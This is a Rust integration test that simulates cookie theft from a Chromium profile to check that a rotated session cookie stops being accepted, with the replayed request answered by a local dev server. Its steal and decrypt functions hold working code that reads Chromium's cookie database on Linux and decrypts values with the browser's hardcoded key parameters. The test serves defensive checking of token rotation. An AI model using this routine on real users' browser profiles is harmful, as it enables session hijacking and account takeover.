//! Malware reads the browser's cookie database, and a thief uses what it found.

use anyhow::{Context as _, Result, ensure};
use aws_lc_rs::cipher::{AES_128, DecryptionContext, PaddedBlockDecryptingKey, UnboundCipherKey};
use aws_lc_rs::iv::FixedLength;
use aws_lc_rs::pbkdf2;
use holdfast_tests::browser::Profile;
use holdfast_tests::dev::DevServer;
use sha2::{Digest as _, Sha256};

use crate::stage::{COOKIE, PRIVATE, Stage};

#[tokio::test]
async fn a_stolen_cookie_dies_with_its_rotation() -> Result<()> {
    let Some(mut stage) = Stage::set().await? else { return Ok(()) };
    stage.log_in().await?;
    let mut stolen = String::new();
    // The database is complete once the browser is closed.
    let mut stage = stage
        .restart_browser(|profile| {
            stolen = steal(profile)?;
            Ok(())
        })
        .await?;

    assert_eq!(replay(&stage.server, &stolen).await?, 200);

    stage.refresh().await?;
    stage.refresh().await?;
    assert_eq!(replay(&stage.server, &stolen).await?, 401);
    stage.server.audit_has("cookie.stale").await?;
    // The owner notices nothing.
    assert_eq!(stage.visit().await?, 200);
    Ok(())
}

/// A request with the cookie and nothing else, from a client that has no key.
async fn replay(server: &DevServer, cookie: &str) -> Result<u16> {
    let request = server.client()?.get(server.url(PRIVATE)).header("Cookie", format!("{COOKIE}={cookie}"));
    Ok(request.send().await?.status().as_u16())
}

/// The cookie's value, read out of the database's bytes. In a row, the encrypted value follows the name: the column
/// between them, for plain values, is empty.
fn steal(profile: &Profile) -> Result<String> {
    let places = ["Default/Cookies", "Default/Network/Cookies"].map(|place| profile.data().join(place));
    let file = places.iter().find(|place| place.is_file()).context("no cookie database")?;
    let database = std::fs::read(file)?;
    let row = [COOKIE.as_bytes(), VERSION].concat();
    let found = database.windows(row.len()).position(|bytes| bytes == row).context("no such cookie")?;
    decrypt(&database[found + row.len()..])
}

/// Chromium's encryption on Linux without a keyring hides nothing: the password is in its source. In front of the value
/// is the hash of the host. How long the value is, its padding tells: no byte of a cookie could be one.
fn decrypt(encrypted: &[u8]) -> Result<String> {
    let mut bytes = [0; BLOCK];
    let rounds = std::num::NonZeroU32::MIN;
    pbkdf2::derive(pbkdf2::PBKDF2_HMAC_SHA1, rounds, b"saltysalt", b"peanuts", &mut bytes);
    let most = encrypted.len().min(4096) / BLOCK;
    let plain = (3..most).find_map(|blocks| {
        let key = UnboundCipherKey::new(&AES_128, &bytes).ok()?;
        let key = PaddedBlockDecryptingKey::cbc_pkcs7(key).ok()?;
        let mut text = encrypted[..blocks * BLOCK].to_vec();
        let context = DecryptionContext::Iv128(FixedLength::from(&[b' '; BLOCK]));
        key.decrypt(&mut text, context).ok().map(|plain| plain.to_vec())
    });
    let plain = plain.context("not encrypted as expected")?;
    let (host, value) = plain.split_at(32);
    ensure!(host == Sha256::digest("localhost").as_slice(), "the cookie of another host");
    Ok(String::from_utf8(value.to_vec())?)
}

/// What encrypted values begin with.
const VERSION: &[u8] = b"v10";
const BLOCK: usize = 16;
